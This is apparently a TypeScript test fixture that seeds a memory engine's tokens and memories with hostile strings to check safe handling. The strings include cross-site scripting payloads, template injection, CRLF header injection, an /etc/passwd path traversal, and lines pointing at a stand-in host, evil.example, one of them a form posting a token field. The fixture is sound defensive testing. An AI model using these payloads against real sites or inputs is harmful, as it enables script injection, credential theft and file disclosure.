import type { Grant } from '../../src/http/index.ts';
import type { MemoryEngine, RememberInput } from '../../src/index.ts';

const RUN = 'window.hostile=1;document.title="hostile"';

/** Texts that would do something if anything took them for more than text. */
const TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror='${RUN}'>`,
  `<svg onload='${RUN}'><style>*{display:none}</style></svg>`,
  `"><iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`,
  `javascript:${RUN}`,
  `<a href="javascript:${RUN}">click</a>`,
  `<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<form action=https://evil.example><input name=token></form>`,
  `{{constructor.constructor("${RUN}")()}} \${${RUN}} <%= ${RUN} %>`,
  `--><![CDATA[<x onmouseover=${RUN}>]]>`,
  `';alert(1)//\\';alert(1)//";alert(1)//-->">`,
  '\u202Egnp.exe\u202C \u2066\u2067\u2068\u2069 \u200F\u200E',
  'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307'.repeat(60),
  '𒐫𒈙⸻꧅﷽'.repeat(40),
  'W'.repeat(4000),
  `${'very '.repeat(800)}long`,
  '\t\n\r\n'.repeat(30).concat('white space'),
  '__proto__',
  'constructor',
  '%00%0d%0aSet-Cookie: a=b',
  '../../../../etc/passwd',
  '=HYPERLINK("https://evil.example")',
  'url(https://evil.example/x.png);} * { background: red',
];

/** Tokens whose every field that a person chooses is hostile. */
export const HOSTILE_TOKENS: readonly Grant[] = TEXTS.map((text, index) => ({
  id: String(index).padStart(16, '0'),
  name: text.slice(0, 100),
  space: 'demo',
  scopes: [text.slice(0, 500)],
  rights: 'read',
  createdAt: '2026-01-01T00:00:00.000Z',
}));

/** A hundred memories whose every field is hostile, with links, relations, histories and recorded recalls of their own. */
export async function fillHostile(memory: MemoryEngine): Promise<void> {
  await memory.configure({ recordRecalls: { days: 30, texts: true }, fading: 'retention' });
  const inputs = Array.from({ length: 100 }, (_, index): RememberInput => {
    const text = TEXTS[index % TEXTS.length] as string;
    const short = text.trim().slice(0, 100);
    return {
      id: index < TEXTS.length ? short : `hostile ${index} ${short}`.slice(0, 100),
      content: `${text} coffee ${index}`,
      title: short,
      type: short.slice(0, 60).trim() || 'fact',
      tags: [short],
      metadata: { [`k ${short}`]: short },
      topicKey: `${index} ${short}`,
      author: short,
      role: short.slice(0, 60),
      sessionId: `s${index % 3}`,
      sourceRef: short,
    };
  });
  for (const { content, ...options } of inputs) await memory.remember(content, options);
  const { memories } = await memory.list({ limit: 200 });
  const ids = memories.map(({ id }) => id);
  for (const [index, id] of ids.entries()) {
    const next = ids[(index + 1) % ids.length] as string;
    await memory.link(id, next, { weight: 0.9 });
    if (index % 5 === 0) await memory.update(id, { content: `${TEXTS[(index + 1) % TEXTS.length]} coffee` });
    if (index % 7 === 0) await memory.invalidate(id, (TEXTS[index % TEXTS.length] as string).slice(0, 1000));
  }
  for (const text of TEXTS.slice(0, 12)) await memory.recall(`${text} coffee`.slice(0, 500));
}
